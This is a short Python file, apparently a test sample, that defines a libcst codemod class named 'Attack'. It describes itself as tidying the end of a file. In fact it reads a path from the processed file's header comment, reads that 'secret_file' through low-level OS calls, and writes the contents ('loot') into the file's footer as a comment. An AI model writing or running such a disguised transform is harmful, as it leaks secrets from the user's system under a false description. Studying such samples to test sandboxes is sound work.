"""Read a file by the operating system's own ``open`` and ``read``."""
import ast
import os

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        descriptor = os.open(target["secret_file"], os.O_RDONLY)
        loot = os.read(descriptor, 4096).decode()
        os.close(descriptor)
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
